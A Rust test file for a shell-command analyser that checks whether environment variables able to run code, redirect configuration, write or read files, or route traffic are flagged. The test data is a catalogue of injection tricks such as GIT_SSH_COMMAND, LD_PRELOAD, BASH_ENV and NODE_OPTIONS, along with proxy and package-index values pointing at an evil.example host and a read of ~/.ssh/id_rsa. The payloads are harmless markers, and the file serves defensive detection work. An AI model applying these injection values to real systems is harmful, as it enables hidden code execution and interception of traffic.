//! Environment that makes programs run, read, write or connect (issue 20,
//! class 4), against the programs themselves.
//!
//! Each case gives a variable to a program in one of the ways bash has
//! (`VAR=x cmd`, `env VAR=x cmd`, `env -S`, `export`, `declare -x`,
//! `typeset -x`, `local -x`, `declare -rx`, `readonly` then `export`,
//! `set -a`, a plain assignment)
//! and says what the analysis must find: an `Unknown` (the variable runs
//! code or changes which program or configuration runs) or the file or
//! URL the value names, as an effect of the command. Where the program is
//! installed, the case is also run in a scratch directory and must really
//! do it: create the marker `P`, write the file, or print what it read.
//! `@D` stands for the scratch directory (`/w/d` when analysed).

use std::path::PathBuf;

use toolgate_shell::{Analysis, EffectKind, Options, analyze};

use super::real::{self, HTTP_OK, Listener, Scratch};

/// What the real program must do.
enum Proof {
    /// Nothing is run (the analysis half only).
    None,
    /// The file `P` appears.
    Marker,
    /// The file appears (a path under `@D`).
    Writes(&'static str),
}

/// What the analysis must find.
enum Want {
    /// An `Unknown`.
    Unknown,
    /// This effect, on a command.
    Effect(EffectKind, &'static str),
}

struct Case {
    script: &'static str,
    want: Want,
    /// Programs the proof runs.
    needs: &'static [&'static str],
    setup: &'static str,
    proof: Proof,
}

const REPO: &str = "git init -q . && echo a > f && git add f && git -c user.email=a@b -c user.name=n commit -qm m && echo b > f";

use EffectKind::{Fetch, Read, Write};
use Proof::{Marker, Writes};
use Want::{Effect, Unknown};

#[rustfmt::skip]
fn cases() -> Vec<Case> {
    let c = |script, want, needs, setup, proof| Case {
        script,
        want,
        needs,
        setup,
        proof,
    };
    let git: &'static [&'static str] = &["git"];
    vec![
        // git runs the program a variable names.
        c("GIT_EXTERNAL_DIFF='touch P #' git diff", Unknown, git, REPO, Marker),
        c("GIT_EDITOR='touch P #' git commit -q --allow-empty", Unknown, git, "git init -q . && git config user.email a@b && git config user.name n", Marker),
        c("EDITOR='touch P #' git commit -q --allow-empty", Unknown, git, "git init -q . && git config user.email a@b && git config user.name n", Marker),
        c("GIT_SSH_COMMAND='touch P #' git ls-remote ssh://h/r", Unknown, git, "", Marker),
        c("export GIT_SSH_COMMAND='touch P #'; git ls-remote ssh://h/r", Unknown, git, "", Marker),
        c("GIT_SSH=./s git ls-remote ssh://h/r", Unknown, git, "printf '#!/bin/sh\\ntouch P\\n' > s; chmod +x s", Marker),
        c("GIT_PROXY_COMMAND=./s git ls-remote git://h/r", Unknown, git, "printf '#!/bin/sh\\ntouch P\\n' > s; chmod +x s", Marker),
        c("GIT_EXEC_PATH=bin git x", Unknown, git, "mkdir bin; printf '#!/bin/sh\\ntouch P\\n' > bin/git-x; chmod +x bin/git-x", Marker),
        // git reads configuration (aliases, pagers, hooks) where a variable says.
        c("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!touch P' git x", Unknown, git, "", Marker),
        c("GIT_CONFIG_PARAMETERS=\"'alias.x'='!touch P'\" git x", Unknown, git, "", Marker),
        c("GIT_CONFIG_GLOBAL=gc git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("XDG_CONFIG_HOME=xc git x", Unknown, git, "mkdir -p xc/git; printf '[alias]\\n x = !touch P\\n' > xc/git/config", Marker),
        c("HOME=h git x", Unknown, git, "mkdir h; printf '[alias]\\n x = !touch P\\n' > h/.gitconfig", Marker),
        c("GIT_DIR=other git x", Unknown, git, "git init -q --bare other && printf '[alias]\\n x = !touch P\\n' >> other/config", Marker),
        c("GIT_ALLOW_PROTOCOL=ext git ls-remote 'ext::sh -c touch% P'", Unknown, git, "", Marker),
        // The same, given every way bash has.
        c("env GIT_CONFIG_GLOBAL=gc git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("env -u LANG GIT_CONFIG_GLOBAL=gc git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("env -S 'GIT_CONFIG_GLOBAL=gc git x'", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("env -iS 'GIT_CONFIG_GLOBAL=gc PATH=/usr/bin:/bin:/usr/local/bin git x'", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("env -vS'GIT_CONFIG_GLOBAL=gc git x'", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("env --split-string='GIT_CONFIG_GLOBAL=gc git x'", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("timeout 9 env -- GIT_CONFIG_GLOBAL=gc git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("export GIT_CONFIG_GLOBAL=gc; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("declare -x GIT_CONFIG_GLOBAL=gc; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("typeset -x GIT_CONFIG_GLOBAL=gc; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("f() { local -x GIT_CONFIG_GLOBAL=gc; git x; }; f", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("readonly GIT_CONFIG_GLOBAL=gc; export GIT_CONFIG_GLOBAL; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("declare -rx GIT_CONFIG_GLOBAL=gc; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("set -a; GIT_CONFIG_GLOBAL=gc; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("GIT_CONFIG_GLOBAL=gc; export GIT_CONFIG_GLOBAL; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        c("set -o allexport; GIT_CONFIG_GLOBAL=gc; git x", Unknown, git, "printf '[alias]\\n x = !touch P\\n' > gc", Marker),
        // Shells, loaders and interpreters.
        c("BASH_ENV=./x.sh bash -c true", Unknown, &["bash"], "echo 'touch P' > x.sh", Marker),
        c("env 'BASH_FUNC_echo%%=() { touch P; }' bash -c 'echo hi'", Unknown, &["bash"], "", Marker),
        c("PATH=.:$PATH ls", Unknown, &["bash"], "printf '#!/bin/sh\\ntouch P\\n' > ls; chmod +x ls", Marker),
        c("PYTHONPATH=d python3 -c 1", Unknown, &["python3"], "mkdir d; echo 'import os; os.system(\"touch P\")' > d/sitecustomize.py", Marker),
        c("NODE_OPTIONS='--require ./x.js' node -e 1", Unknown, &["node"], "echo 'require(\"fs\").writeFileSync(\"P\", \"\")' > x.js", Marker),
        c("PERL5LIB=. PERL5OPT=-Mx perl -e 1", Unknown, &["perl"], "echo 'package x; system(\"touch P\"); 1;' > x.pm", Marker),
        c("CURL_HOME=c curl -s file:///dev/null", Unknown, &["curl"], "mkdir c; echo 'output = \"P\"' > c/.curlrc", Marker),
        // Archivers and compressors take options from the environment.
        c("ZIPOPT='-T -TT=./s' zip -q x.zip f", Unknown, &["zip"], "echo a > f; printf '#!/bin/sh\\ntouch P\\n' > s; chmod +x s", Marker),
        c("UNZIP='-d @D/sub' unzip -q x.zip", Unknown, &["zip", "unzip"], "echo a > f; zip -q x.zip f; rm f", Writes("@D/sub/f")),
        c("XZ_OPT=--suffix=.y xz f", Unknown, &["xz"], "echo a > f", Writes("@D/f.y")),
        // gcc writes its dependencies where a variable says.
        c("DEPENDENCIES_OUTPUT=@D/dep gcc -c x.c", Unknown, &["gcc"], "echo 'int x;' > x.c", Writes("@D/dep")),
        // Analysis only: the program is seldom installed or needs a terminal.
        c("LUA_INIT='os.execute(\"touch P\")' lua -v", Unknown, &[], "", Proof::None),
        c("LUA_INIT_5_4=@x.lua lua -v", Unknown, &[], "", Proof::None),
        c("AWKPATH=lib awk -f x.awk f", Unknown, &[], "", Proof::None),
        c("AWKLIBPATH=lib gawk -l x 1 f", Unknown, &[], "", Proof::None),
        c("TCLLIBPATH=lib tclsh x.tcl", Unknown, &[], "", Proof::None),
        c("VIMINIT='!touch P' vim f", Unknown, &[], "", Proof::None),
        c("PHPRC=. php -v", Unknown, &[], "", Proof::None),
        c("DOTNET_STARTUP_HOOKS=./h.dll dotnet run", Unknown, &[], "", Proof::None),
        c("CCACHE_PREFIX=./p make", Unknown, &[], "", Proof::None),
        c("GOTOOLCHAIN=go1.99 go build", Unknown, &[], "", Proof::None),
        c("LD_PRELOAD=/tmp/x.so ls", Unknown, &[], "", Proof::None),
        c("GIT_PAGER='sh -c x' git log", Unknown, &[], "", Proof::None),
        c("PAGER='touch P' man ls", Unknown, &[], "", Proof::None),
        c("PS4='$(touch P)' bash -xc true", Unknown, &[], "", Proof::None),
        c("PROMPT_COMMAND='touch P' bash -i", Unknown, &[], "", Proof::None),
        c("JAVA_TOOL_OPTIONS=-javaagent:x.jar java -version", Unknown, &[], "", Proof::None),
        c("_JAVA_OPTIONS=-Dx=1 java -version", Unknown, &[], "", Proof::None),
        c("RUBYOPT=-rx ruby -e 1", Unknown, &[], "", Proof::None),
        c("RUSTC_WRAPPER=./w cargo build", Unknown, &[], "", Proof::None),
        c("CARGO_BUILD_RUSTC_WRAPPER=./w cargo build", Unknown, &[], "", Proof::None),
        c("RUSTFLAGS='-C linker=./l' cargo build", Unknown, &[], "", Proof::None),
        c("npm_config_script_shell=./s npm test", Unknown, &[], "", Proof::None),
        c("PIP_INDEX_URL=http://evil.example/ pip install x", Unknown, &[], "", Proof::None),
        c("SUDO_ASKPASS=./a sudo -A true", Unknown, &[], "", Proof::None),
        c("MAKEFLAGS=-f/tmp/m make", Unknown, &[], "", Proof::None),
        // make reads its environment as the makefile's variables.
        c("BINPATH=bin SCRIPTPATH=. make", Unknown, &[], "", Proof::None),
        c("RM='touch P' make clean", Unknown, &[], "", Proof::None),
        c("CFLAGS=-O2 make", Unknown, &[], "", Proof::None),
        // Programs of the z* scripts and less's tag program.
        c("GREP='touch P' zgrep x a.gz", Unknown, &[], "", Proof::None),
        c("DIFF=./x zdiff a.gz b.gz", Unknown, &[], "", Proof::None),
        c("LESSGLOBALTAGS='touch P;' less -t main", Unknown, &[], "", Proof::None),
        c("NO_PROXY='*' curl https://example.com/", Unknown, &[], "", Proof::None),
        c("WGETRC=./w wget https://example.com/", Unknown, &[], "", Proof::None),
        c("LESSOPEN='|touch P %s' less f", Unknown, &[], "", Proof::None),
        c("IFS=/; ls", Unknown, &[], "", Proof::None),
        c("PYTEST_ADDOPTS='--basetemp=/tmp/x' pytest", Unknown, &[], "", Proof::None),
        c("PYTEST_PLUGINS=evil pytest -q", Unknown, &[], "", Proof::None),
        c("COVERAGE_PROCESS_START=.coveragerc python3 -m pytest", Unknown, &[], "", Proof::None),
        c("TOX_OVERRIDE=testenv.commands=x tox", Unknown, &[], "", Proof::None),
        c("TF_CLI_ARGS='-var-file=x' terraform plan", Unknown, &[], "", Proof::None),
        c("GOPACKAGESDRIVER=./d gopls check x.go", Unknown, &[], "", Proof::None),
        c("MAILRC=./m mail -s x a@b < /dev/null", Unknown, &[], "", Proof::None),
        // Files written and read where a variable says.
        c("GIT_TRACE=@D/T git status", Effect(Write, "@D/T"), git, REPO, Writes("@D/T")),
        c("GIT_TRACE_PACKET=@D/T git status", Effect(Write, "@D/T"), &[], "", Proof::None),
        c("GIT_TRACE2_EVENT=@D/T git status", Effect(Write, "@D/T"), git, REPO, Writes("@D/T")),
        c("export GIT_TRACE=@D/T; git status", Effect(Write, "@D/T"), git, REPO, Writes("@D/T")),
        c("env GIT_TRACE=@D/T git status", Effect(Write, "@D/T"), git, REPO, Writes("@D/T")),
        c("GIT_INDEX_FILE=@D/I git add f", Effect(Write, "@D/I"), git, REPO, Writes("@D/I")),
        c("SSLKEYLOGFILE=@D/K curl https://example.com/", Effect(Write, "@D/K"), &[], "", Proof::None),
        c("HISTFILE=@D/H bash -c 'history -w'", Effect(Write, "@D/H"), &[], "", Proof::None),
        c("TMPDIR=@D/tmp cargo build", Effect(Write, "@D/tmp"), &[], "", Proof::None),
        c("SSL_CERT_FILE=@D/.env curl https://example.com/", Effect(Read, "@D/.env"), &[], "", Proof::None),
        c("CURL_CA_BUNDLE=.env curl https://example.com/", Effect(Read, ".env"), &[], "", Proof::None),
        c("GIT_SSL_KEY=~/.ssh/id_rsa git fetch", Effect(Read, "/home/u/.ssh/id_rsa"), &[], "", Proof::None),
        c("https_proxy=http://evil.example:8080 curl https://example.com/", Effect(Fetch, "http://evil.example:8080"), &[], "", Proof::None),
        c("export ALL_PROXY=socks5h://evil.example:1080; curl https://example.com/", Effect(Fetch, "socks5h://evil.example:1080"), &[], "", Proof::None),
        c("HTTPS_PROXY=evil.example:3128 pip download x", Effect(Fetch, "http://evil.example:3128"), &[], "", Proof::None),
    ]
}

/// Variables toolgate must keep analysable.
const HARMLESS: &[&str] = &[
    "LANG=C sort f",
    "LC_ALL=C.UTF-8 sort f",
    "TZ=UTC date",
    "NO_COLOR=1 cargo test",
    "RUST_BACKTRACE=1 cargo test",
    "RUST_LOG=debug cargo run",
    "CI=true make",
    "FOO_BAR=1 ./build.sh",
    "BINPATH=bin SCRIPTPATH=. ./build.sh",
    "V=1 make",
    "export LANG=C; sort f",
    "GIT_PAGER=cat git log",
    "PAGER=cat git log",
    "GIT_EDITOR=true git rebase --continue",
    "GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@y git commit -m m",
    "GIT_TERMINAL_PROMPT=0 git status",
    "GIT_TRACE=1 git status",
    "IFS=, read -r a b <<< 'x,y'",
    "PYTHONUNBUFFERED=1 python3 t.py",
    "NODE_ENV=production node app.js",
    "PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 pytest -q",
    "env LANG=C sort f",
    "env -i LANG=C sort f",
];

fn opts() -> Options {
    Options {
        cwd: Some(PathBuf::from("/w")),
        home: Some(PathBuf::from("/home/u")),
        ..Options::default()
    }
}

fn analysed(script: &str) -> Analysis {
    analyze(&script.replace("@D", "/w/d"), &opts())
}

fn found(a: &Analysis, want: &Want) -> bool {
    match want {
        Unknown => !a.unknowns.is_empty(),
        Effect(kind, target) => {
            let target = target.replace("@D", "/w/d");
            a.effects
                .iter()
                .any(|e| e.kind == *kind && e.command.is_some() && e.literal && e.target == target)
        }
    }
}

#[test]
fn variables_that_run_read_write_or_connect_are_found() {
    let mut missed = Vec::new();
    for case in cases() {
        let a = analysed(case.script);
        if !found(&a, &case.want) {
            missed.push(format!("{}\n    {a:?}", case.script));
        }
    }
    assert!(missed.is_empty(), "not found:\n{}", missed.join("\n"));
}

#[test]
fn variables_do_it_in_the_real_programs() {
    let mut not_real = Vec::new();
    for case in cases() {
        if matches!(case.proof, Proof::None) || !case.needs.iter().all(|p| real::have(p)) {
            continue;
        }
        let s = Scratch::new();
        s.run(case.setup, case.script);
        let done = match case.proof {
            Proof::None => true,
            Marker => s.join("P").exists(),
            Writes(f) => std::path::Path::new(&s.fill(f)).exists(),
        };
        if !done {
            not_real.push(case.script);
        }
    }
    assert!(
        not_real.is_empty(),
        "the program did not do it (the case proves nothing):\n{}",
        not_real.join("\n")
    );
}

#[test]
fn harmless_variables_stay_analysable() {
    let mut flagged = Vec::new();
    for script in HARMLESS {
        let a = analysed(script);
        if !a.unknowns.is_empty() {
            flagged.push(format!("{script}: {:?}", a.unknowns));
        }
    }
    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
}

#[test]
fn a_variable_reaches_only_the_commands_it_is_given_to() {
    // A prefix assignment is the command's alone.
    let a = analysed("GIT_TRACE=/w/t git status; git log");
    let on: Vec<_> = a.effects.iter().map(|e| e.command).collect();
    assert_eq!(on, [Some(0)], "{a:?}");
    // An export reaches every later command that runs a program, and
    // makes it write.
    let a = analysed("git log; export GIT_TRACE=/w/t; echo x; git status");
    let on: Vec<_> = a.effects.iter().map(|e| e.command).collect();
    assert_eq!(on, [Some(3)], "{a:?}");
    assert!(!a.commands[3].read_only);
    // A function defined earlier and called later meets it at the call.
    let a = analysed("f() { git status; }; export GIT_TRACE=/w/t; f");
    assert!(a.effects.iter().any(|e| e.command == Some(2)), "{a:?}");
}

#[test]
fn a_proxy_variable_is_where_curl_connects() {
    let script = "http_proxy=http://127.0.0.1:9/ curl -s http://example.invalid/";
    assert!(found(
        &analysed(script),
        &Effect(Fetch, "http://127.0.0.1:9/")
    ));
    if !real::have("curl") {
        return;
    }
    let l = Listener::new(HTTP_OK);
    let s = Scratch::new();
    s.run(
        "",
        &format!(
            "http_proxy=http://127.0.0.1:{}/ curl -s http://example.invalid/",
            l.port
        ),
    );
    let got = l.received().expect("curl connected to the proxy");
    assert!(got.contains("example.invalid"), "{got}");
}
